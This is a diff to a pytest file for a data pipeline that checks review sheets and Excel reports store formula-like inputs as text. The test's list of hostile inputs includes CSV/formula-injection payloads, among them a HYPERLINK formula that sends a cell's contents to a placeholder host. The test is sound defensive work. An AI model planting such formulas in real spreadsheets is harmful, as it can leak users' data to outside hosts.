@@ -13,6 +13,7 @@ import pytest
 from pipeline.cells import csv_cell, csv_uncell, escape_frame, unescape_frame
 from pipeline.cli import main
 from pipeline.ingest.tables import read_table
+from pipeline.review import SHEET
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A2,"click")', "=1+1", "+1+2", "-2+3", "@SUM(A1)", "\t=cmd",
            "\r=cmd", "'=already quoted"]
@@ -68,8 +69,8 @@ def test_review_sheet_and_report_hold_formulas_as_text(tmp_path, model_dir):
     assert main(["report", str(scored), "--out", str(tmp_path / "report"), "--model", str(model_dir)]) == 0
     workbook = tmp_path / "report" / "report.xlsx"
     assert _formulas(sheet) == [] and _formulas(workbook) == []
-    review = pd.read_excel(sheet, dtype=str, keep_default_na=False)
-    assert sorted(review["opinion"]) == sorted(read_table(source)["opinion"])
+    review = pd.read_excel(sheet, sheet_name=SHEET, dtype=str, keep_default_na=False)
+    assert sorted(review["意見"]) == sorted(read_table(source)["opinion"])
     texts = [c.value for s in openpyxl.load_workbook(workbook) for row in s.iter_rows() for c in row]
     assert "\t=cmd" in texts and "=cmd" not in texts  # the report kept the tab instead of stripping it to a formula
 
